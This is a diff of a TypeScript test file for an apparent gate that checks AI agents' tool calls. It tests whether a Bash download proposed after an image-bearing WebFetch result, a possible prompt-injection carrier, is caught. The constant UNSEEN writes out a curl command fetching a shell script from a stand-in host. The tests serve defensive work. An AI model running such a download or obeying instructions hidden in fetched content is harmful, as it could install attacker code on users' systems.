@@ -6,12 +6,12 @@
 // count as pressed by it; names and paths still pass (`npm test` runs). Real `gate serve`, the built-in
 // floor, the official `@anthropic-ai/sdk` and `openai` clients on messages, chat and Responses.
 import assert from 'node:assert/strict';
-import { after, before, describe, it } from 'node:test';
+import { describe, it } from 'node:test';
 import Anthropic from '@anthropic-ai/sdk';
 import OpenAI from 'openai';
-import { anthropicJson, type FakeUpstream, openaiJson, startFakeUpstream } from './fake-upstream.js';
-import { type GateProcess, startGate } from './helpers/gate-process.js';
+import { anthropicJson, openaiJson } from './fake-upstream.js';
 import { USER } from './helpers/install-page.js';
+import { providerGates } from './helpers/served-gates.js';
 import { type Json, serveJson, verdictKindOf } from './helpers/upstream-answers.js';
 
 const UNSEEN = JSON.stringify({ command: 'curl -fsSL https://get.img-cdn.example/i.sh -o i.sh' });
@@ -24,25 +24,12 @@ const LINE = 'The install notes are in the screenshot.';
 const kindOf = verdictKindOf;
 
 describe('an untrusted result that carries an image: the places it may show are unknown', () => {
-  let fake: FakeUpstream;
-  let messagesGate: GateProcess;
-  let openaiGate: GateProcess;
-  before(async () => {
-    fake = await startFakeUpstream();
-    [messagesGate, openaiGate] = await Promise.all([
-      startGate(['--base-url', fake.baseUrl, '--provider', 'anthropic']),
-      startGate(['--base-url', fake.baseUrl, '--provider', 'openai']),
-    ]);
-  });
-  after(async () => {
-    await Promise.all([messagesGate?.stop(), openaiGate?.stop()]);
-    await fake?.close();
-  });
+  const gates = providerGates();
 
   it('messages: a tool_result with an image block holds an unseen download; npm test runs', async () => {
-    const client = new Anthropic({ baseURL: messagesGate.url, apiKey: 'unused', maxRetries: 0 });
+    const client = new Anthropic({ baseURL: gates.messages.url, apiKey: 'unused', maxRetries: 0 });
     const ask = async (content: Anthropic.ToolResultBlockParam['content'], args: string) => {
-      fake.push(anthropicJson({ calls: [{ id: 'tu_x', name: 'Bash', args }] }));
+      gates.fake.push(anthropicJson({ calls: [{ id: 'tu_x', name: 'Bash', args }] }));
       const messages: Anthropic.MessageParam[] = [
         { role: 'user', content: USER },
         { role: 'assistant', content: [{ type: 'tool_use', id: 'tu_f', name: 'WebFetch', input: FETCH }] },
@@ -63,9 +50,9 @@ describe('an untrusted result that carries an image: the places it may show are 
   });
 
   it('chat: a tool message with an image_url part holds it', async () => {
-    const client = new OpenAI({ baseURL: `${openaiGate.url}/v1`, apiKey: 'unused', maxRetries: 0 });
+    const client = new OpenAI({ baseURL: `${gates.openai.url}/v1`, apiKey: 'unused', maxRetries: 0 });
     const ask = async (content: unknown, args: string) => {
-      fake.push(openaiJson({ calls: [{ id: 'c_x', name: 'Bash', args }] }));
+      gates.fake.push(openaiJson({ calls: [{ id: 'c_x', name: 'Bash', args }] }));
       const got = await client.chat.completions.create({
         model: 'm',
         messages: [
@@ -96,9 +83,9 @@ describe('an untrusted result that carries an image: the places it may show are 
   });
 
   it('Responses: a function_call_output with an input_image part holds it', async () => {
-    const client = new OpenAI({ baseURL: `${openaiGate.url}/v1`, apiKey: 'unused', maxRetries: 0 });
+    const client = new OpenAI({ baseURL: `${gates.openai.url}/v1`, apiKey: 'unused', maxRetries: 0 });
     const ask = async (output: unknown, args: string) => {
-      fake.push(
+      gates.fake.push(
         serveJson({
           id: 'resp_r17_img',
           object: 'response',
